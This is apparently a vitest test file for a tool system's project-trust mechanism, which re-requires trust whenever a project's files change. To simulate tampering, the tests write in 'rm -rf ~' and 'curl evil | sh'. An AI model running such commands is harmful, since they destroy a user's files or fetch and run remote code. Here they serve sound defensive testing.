// Promise 1 of SECURITY.md.
import { execFileSync } from "node:child_process";
import {
  appendFileSync,
  chmodSync,
  cpSync,
  existsSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { tempDir } from "@ikigai/testing";
import { expect, test } from "vitest";
import { callTool, findTool, registryChanged, revokeTrust, trust, trustStatus } from "../src/index.ts";
import { toolDirectories } from "../src/internal.ts";
import { projectOverrides, trustFiles } from "../src/trust.ts";
import { circumstances, schema, tool, type World, world } from "./world.ts";

/** A project with a tool that leaves a mark whenever it runs, even for its schema. */
async function projectWorld(files: Parameters<typeof world>[0] = {}): Promise<World & { tools: string; mark: string }> {
  const made = await world({
    "system/bash-tool": tool(schema("bash", { description: "system" })),
    "project/.ikigai/lib/helper.sh": "# helps\n",
    ...files,
  });
  const mark = join(made.root, "mark");
  const tools = join(made.projectDir, ".ikigai/tools");
  mkdirSync(tools, { recursive: true });
  const script = tool(schema("bash", { description: "project" })).replace(
    "#!/bin/sh\n",
    `#!/bin/sh\necho ran >> ${mark}\n`,
  );
  writeFileSync(join(tools, "bash-tool"), script, { mode: 0o755 });
  return { ...made, tools, mark };
}

test("runs no part of an untrusted project, and shadows nothing", async () => {
  const { discover, tools, mark } = await projectWorld();
  const registry = await discover();
  expect(existsSync(mark)).toBe(false);
  expect(registry.trust).toBe("untrusted");
  expect(findTool(registry, "bash")).toMatchObject({ scope: "system", shadows: [] });
  expect(registry.failed).toEqual([
    {
      name: "bash",
      path: join(tools, "bash-tool"),
      scope: "project",
      reason: "untrusted",
      detail: "to use it, review it and run: ikigai trust",
    },
  ]);
});

test("uses a project's tool while it is trusted, and not after that was revoked", async () => {
  const { discover, root, tools, mark, ...place } = await projectWorld();
  expect(await trust(place)).toMatchObject({ status: "trusted" });
  expect(existsSync(mark)).toBe(false);
  const trusted = await discover();
  expect(trusted.trust).toBe("trusted");
  expect(findTool(trusted, "bash")).toMatchObject({
    scope: "project",
    schema: { description: "project" },
    shadows: [{ path: join(root, "system/bash-tool"), scope: "system" }],
  });
  expect((await callTool(trusted, "bash", "{}", await circumstances())).envelope.tool_success).toBe(true);
  expect(await revokeTrust(place)).toBe(true);
  expect(await revokeTrust(place)).toBe(false);
  expect(registryChanged(trusted)).toBe(true);
  expect(await discover()).toMatchObject({ trust: "untrusted", tools: [{ scope: "system" }] });
});

test("stores the decision in the user's home, readable only by the user", async () => {
  const { home, projectDir } = await projectWorld();
  await trust({ home, projectDir });
  expect(statSync(join(home, "trust.json")).mode & 0o777).toBe(0o600);
  const stored = JSON.parse(readFileSync(join(home, "trust.json"), "utf8"));
  expect(stored.projects[join(projectDir, ".ikigai")]).toEqual({
    "lib/helper.sh": expect.stringMatching(/^file 644, sha256 [0-9a-f]{64}$/),
    "tools/bash-tool": expect.stringMatching(/^file 755, sha256 [0-9a-f]{64}$/),
  });
});

type Change = [what: string, apply: (tools: string) => void, report: object];

test.each<Change>([
  [
    "a tool's content",
    (tools) => appendFileSync(join(tools, "bash-tool"), "#\n"),
    { path: "tools/bash-tool", change: "changed" },
  ],
  [
    "a tool's mode",
    (tools) => chmodSync(join(tools, "bash-tool"), 0o700),
    { path: "tools/bash-tool", change: "changed" },
  ],
  [
    "a file beside it",
    (tools) => writeFileSync(join(tools, "../lib/helper.sh"), "rm -rf ~\n"),
    { path: "lib/helper.sh", change: "changed" },
  ],
  ["a new file", (tools) => writeFileSync(join(tools, "x"), ""), { path: "tools/x", change: "new" }],
  [
    "a missing file",
    (tools) => unlinkSync(join(tools, "../lib/helper.sh")),
    { path: "lib/helper.sh", change: "removed" },
  ],
  [
    "a link instead of a file",
    (tools) => {
      renameSync(join(tools, "bash-tool"), join(tools, "../../moved"));
      symlinkSync("../../moved", join(tools, "bash-tool"));
    },
    { path: "tools/bash-tool", change: "changed", kind: "link to ../../moved, file 755" },
  ],
])("requires trust again after a change of %s, and names it", async (_, apply, expected) => {
  const { discover, tools, mark, ...place } = await projectWorld();
  await trust(place);
  const before = await discover();
  rmSync(mark);
  apply(tools);
  expect(registryChanged(before)).toBe(true);
  const report = await trustStatus(place);
  expect(report.status).toBe("changed");
  expect(report.files.filter(({ change }) => change)).toMatchObject([expected]);
  const registry = await discover();
  expect(registry).toMatchObject({ trust: "changed", tools: [{ name: "bash", scope: "system" }] });
  for (const { detail } of registry.failed) expect(detail).toContain("changed since you trusted it: ");
  const outcome = await callTool(before, "bash", "{}", await circumstances());
  expect(outcome.envelope).toMatchObject({
    error_code: "TOOL_UNAVAILABLE",
    error: expect.stringContaining("has changed since you trusted it"),
  });
  expect(existsSync(mark)).toBe(false);
});

test("covers the targets of links, and notices another target", async () => {
  const elsewhere = await tempDir({ "x-tool": tool(schema("x")), "y-tool": tool(schema("y")) });
  const { discover, tools, mark: _, ...place } = await projectWorld();
  symlinkSync(join(elsewhere, "x-tool"), join(tools, "x-tool"));
  symlinkSync(elsewhere, join(tools, "../linked"));
  const report = await trust(place);
  expect(report.files.find(({ path }) => path === "tools/x-tool")).toMatchObject({
    realPath: join(elsewhere, "x-tool"),
    sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
  });
  expect(report.files.map(({ path }) => path)).toContain("linked/y-tool");
  expect(findTool(await discover(), "x")).toMatchObject({ scope: "project" });
  appendFileSync(join(elsewhere, "x-tool"), "#\n");
  const changed = (await trustStatus(place)).files.filter(({ change }) => change);
  expect(changed.map(({ path }) => path)).toEqual(["linked/x-tool", "tools/x-tool"]);
});

test("covers what the user was shown, not later changes", async () => {
  const { tools, mark: _, discover: __, ...place } = await projectWorld();
  const seen = await trustStatus(place);
  appendFileSync(join(tools, "bash-tool"), "curl evil | sh\n");
  expect(await trust({ ...place, seen })).toMatchObject({ status: "changed" });
});

test("does not trust a copied or moved project", async () => {
  const { home, projectDir, root } = await projectWorld();
  await trust({ home, projectDir });
  cpSync(projectDir, join(root, "copy"), { recursive: true });
  expect((await trustStatus({ home, projectDir: join(root, "copy") })).status).toBe("untrusted");
  symlinkSync(projectDir, join(root, "link"));
  expect((await trustStatus({ home, projectDir: join(root, "link") })).status).toBe("trusted");
});

test("treats another directory behind a linked .ikigai as a change", async () => {
  const { home, projectDir, root } = await projectWorld();
  await trust({ home, projectDir });
  renameSync(join(projectDir, ".ikigai"), join(root, "moved"));
  symlinkSync("../moved", join(projectDir, ".ikigai"));
  const report = await trustStatus({ home, projectDir });
  expect(report.files.filter(({ change }) => change)).toMatchObject([{ path: ".", change: "new" }]);
});

test("has nothing to trust without files, and in the user's own directory", async () => {
  const { home, projectDir } = await world({ "project/.ikigai/tools/": "" });
  expect((await trustStatus({ home, projectDir })).status).toBe("nothing");
  expect((await trust({ home, projectDir })).status).toBe("nothing");
  const own = await tempDir({ ".ikigai/tools/a-tool": tool(schema("a")) });
  expect((await trustStatus({ home: join(own, ".ikigai"), projectDir: own })).status).toBe("nothing");
});

test("does not block on a FIFO, an endless link or a loop", async () => {
  const { tools, discover, mark: _, ...place } = await projectWorld();
  execFileSync("mkfifo", ["-m", "755", join(tools, "f-tool")]);
  symlinkSync("loop", join(tools, "loop"));
  symlinkSync("..", join(tools, "up"));
  symlinkSync("/dev/zero", join(tools, "zero"));
  const { status, files } = await trust(place);
  expect(status).toBe("trusted");
  expect(Object.fromEntries(files.map(({ path, kind }) => [path, kind]))).toEqual({
    "lib/helper.sh": "file 644",
    "tools/bash-tool": "file 755",
    "tools/f-tool": "no regular file",
    "tools/loop": "link to loop, missing",
    "tools/up": "link to .., directory",
    "tools/zero": "link to /dev/zero, no regular file",
  });
  expect((await discover()).tools).toMatchObject([{ name: "bash", scope: "project" }]);
});

test("does not trust a project that is too large to read", async () => {
  const { home, projectDir } = await projectWorld();
  symlinkSync("/usr", join(projectDir, ".ikigai/everything"));
  const report = await trust({ home, projectDir });
  expect(report).toMatchObject({ status: "untrusted", problem: expect.stringMatching(/^It has more than /) });
});

test("trusts some files without affecting the others", async () => {
  const { home, projectDir, tools } = await projectWorld();
  const place = { home, projectDir };
  const isOurs = (path: string) => path === "tools/bash-tool";
  expect((await trustFiles({ ...place, isOurs })).status).toBe("untrusted");
  expect((await trustStatus(place)).files.filter(({ change }) => change)).toMatchObject([{ path: "lib/helper.sh" }]);
  expect((await trust(place)).status).toBe("trusted");
  appendFileSync(join(tools, "bash-tool"), "# more\n");
  expect((await trustFiles({ ...place, isOurs })).status).toBe("trusted");
  appendFileSync(join(projectDir, ".ikigai/lib/helper.sh"), "# more\n");
  rmSync(join(tools, "bash-tool"));
  const { files } = await trustFiles({ ...place, isOurs });
  expect(files).toMatchObject([{ path: "lib/helper.sh", change: "changed" }]);
});

test("reports a project as changed, not untrusted, once all of it was trusted", async () => {
  const { home, projectDir, tools } = await projectWorld();
  const place = { home, projectDir };
  const add = (name: string) => writeFileSync(join(projectDir, `.ikigai/${name}`), "");
  await trustFiles({ ...place, isOurs: (path) => path === "tools/bash-tool" });
  expect((await trustFiles({ ...place, isOurs: (path) => path === "lib/helper.sh" })).status).toBe("trusted");
  add("new");
  expect((await trustStatus(place)).status).toBe("changed");
  expect((await trust(place)).status).toBe("trusted");
  add("newer");
  appendFileSync(join(tools, "bash-tool"), "# more\n");
  expect((await trustFiles({ ...place, isOurs: (path) => path === "tools/bash-tool" })).status).toBe("changed");
});

test("loses no decision under concurrent changes", async () => {
  const { home } = await world();
  const projects = await Promise.all(
    Array.from({ length: 8 }, () => tempDir({ ".ikigai/tools/a-tool": tool(schema("a")) })),
  );
  writeFileSync(join(home, "trust.json.lock"), "");
  execFileSync("touch", ["-d", "1 minute ago", join(home, "trust.json.lock")]);
  await Promise.all(projects.map((projectDir) => trust({ home, projectDir })));
  for (const projectDir of projects) expect((await trustStatus({ home, projectDir })).status).toBe("trusted");
});

test("lists the tools a project would override, without running any", async () => {
  const { root, home, projectDir, mark } = await projectWorld({ "home/tools/bash-tool": tool(schema("bash")) });
  const directories = toolDirectories({ systemDir: join(root, "system"), home, projectDir });
  expect(await projectOverrides(await trustStatus({ home, projectDir }), { directories, home })).toEqual([
    { what: "the user tool bash", path: join(home, "tools/bash-tool") },
    { what: "the system tool bash", path: join(root, "system/bash-tool") },
  ]);
  expect(existsSync(mark)).toBe(false);
});
